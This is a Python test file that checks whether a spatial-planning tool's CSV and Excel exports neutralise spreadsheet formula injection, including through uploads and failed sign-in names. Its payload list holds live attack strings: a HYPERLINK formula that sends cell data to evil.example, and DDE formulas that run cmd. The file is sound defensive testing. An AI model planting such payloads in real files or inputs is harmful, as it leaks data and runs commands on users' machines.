"""Text that a spreadsheet opens stays text (spatial.outputs.spreadsheet, issue 9): every
formula lead character, in every CSV and Excel file the tool writes, from a real store on both
backends."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import openpyxl
import pytest

from spatial.auth import Principal, Role
from spatial.ingest import submissions as sub
from spatial.ingest.upload import UploadOptions
from spatial.outputs.export import ExportRequest, export_layers
from spatial.outputs.spreadsheet import FORMULA_LEADS, csv_bytes, neutralise, neutralise_frame
from spatial.store import accounts

OFFICER = Principal("ba-officer", Role.DISTRICT, "baoan")
PLANNER = Principal("planner-li", Role.PLANNER)

# one payload per lead character, each a real attack shape
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
]


def test_every_lead_character_has_a_payload():
    assert {p[0] for p in PAYLOADS} == set(FORMULA_LEADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload):
    assert neutralise(payload) == "'" + payload
    assert neutralise("燕罗 " + payload) == "燕罗 " + payload  # only a leading one runs
    assert neutralise(-5.0) == -5.0 and neutralise(None) is None  # numbers stay numbers


def _upload_hostile(store) -> None:
    features = [
        {
            "type": "Feature",
            "properties": {
                "项目编号": f"BA-F{i}",
                "项目名称": payload,
                "开发主体": payload,
                "状态": "在建",
                "总建筑面积": 100000,
            },
            "geometry": {"type": "Point", "coordinates": [113.87, 22.74 + i * 0.0005]},
        }
        for i, payload in enumerate(PAYLOADS)
    ]
    data = json.dumps({"type": "FeatureCollection", "features": features}).encode()
    sid = sub.receive(store, "f.geojson", data, "baoan", OFFICER)
    checked = sub.validate(store, sid, UploadOptions("baoan"))
    assert checked.accepted, checked.report.to_text("en")
    sub.commit(store, sid, OFFICER)


def _csv_cells(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def _assert_no_live_cell(cells: list[str]) -> None:
    live = [c for c in cells if c.startswith(FORMULA_LEADS)]
    assert not live, live[:3]


def test_csv_export_holds_no_formula(seeded_store):
    _upload_hostile(seeded_store)
    result = export_layers(seeded_store, PLANNER, ExportRequest(layers=("projects",), format="csv"))
    with zipfile.ZipFile(io.BytesIO(result.content)) as archive:  # the .csv and its .csvt
        name = next(n for n in archive.namelist() if n.endswith(".csv"))
        cells = _csv_cells(archive.read(name))
    _assert_no_live_cell(cells)
    for payload in PAYLOADS:  # uploads trim surrounding whitespace; the rest is kept as text
        assert "'" + payload.strip() in cells


def test_excel_export_holds_no_formula(seeded_store, tmp_path):
    _upload_hostile(seeded_store)
    result = export_layers(seeded_store, PLANNER, ExportRequest(format="xlsx"))
    path = tmp_path / "x.xlsx"
    path.write_bytes(result.content)
    book = openpyxl.load_workbook(path)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    for payload in PAYLOADS:
        assert payload.strip() in values  # the exact text (trimmed on upload), in a text cell


def test_projects_page_csv_holds_no_formula(seeded_store):
    from spatial.figures.snapshot import take_snapshot

    _upload_hostile(seeded_store)
    projects = take_snapshot(seeded_store).projects.drop(columns="geometry")
    _assert_no_live_cell(_csv_cells(csv_bytes(projects)))


def test_audit_csv_of_failed_sign_ins_holds_no_formula(seeded_store):
    """No account needed: the user name typed at sign-in lands in the audit trail."""
    for payload in PAYLOADS:
        with pytest.raises(accounts.AccountError):
            accounts.sign_in(seeded_store, payload, "wrong password!")
    cells = _csv_cells(csv_bytes(seeded_store.audit()))
    _assert_no_live_cell(cells)
    assert sum(c.startswith("'") for c in cells) >= len(PAYLOADS)


def test_column_names_are_neutralised_too():
    import pandas as pd

    frame = neutralise_frame(pd.DataFrame({"=x": ["=1"], "n": [-1.5]}))
    assert list(frame.columns) == ["'=x", "n"] and frame.iloc[0].tolist() == ["'=1", -1.5]


def test_a_text_column_is_neutralised_in_arrow_as_value_by_value():
    """Every payload, in a column of Arrow text and in one of Python objects (with blanks and
    missing cells between): the same CSV, and the text column is still text."""
    import pandas as pd

    cells = [p for payload in PAYLOADS for p in (payload, None, "", "宝安")]
    frame = pd.DataFrame({"text": pd.Series(cells, dtype="str"),
                          "objects": pd.Series(cells, dtype=object)})  # fmt: skip
    done = neutralise_frame(frame)
    assert str(done["text"].dtype) == "str"
    assert done["text"].fillna("").tolist() == done["objects"].fillna("").tolist()
    assert all(not v.startswith(FORMULA_LEADS) for v in done["text"].dropna() if v)
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert len(rows) == len(cells) + 1 and all(text == objects for text, objects in rows[1:])
